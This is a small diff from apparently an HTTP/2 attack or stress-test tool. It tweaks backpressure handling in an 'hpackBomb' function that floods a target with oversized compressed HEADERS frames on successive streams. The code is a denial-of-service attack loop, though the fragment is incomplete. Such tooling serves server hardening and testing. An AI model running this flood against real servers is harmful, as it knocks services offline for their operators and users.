@@ -54,7 +54,7 @@ const hpackBomb: StrangerAttack = async (target, from, signal) => {
   const references = Buffer.alloc(16_000 - start.length, 0xbe);
   for (let stream = 3; !socket.destroyed && !signal.aborted; stream += 2) {
     const bomb = frame(frameType.headers, bits, stream, Buffer.concat([start, references]));
-    if (!socket.write(bomb)) await drained(socket);
+    if (socket.writableNeedDrain || !socket.write(bomb)) await drained(socket);
   }
 };
 
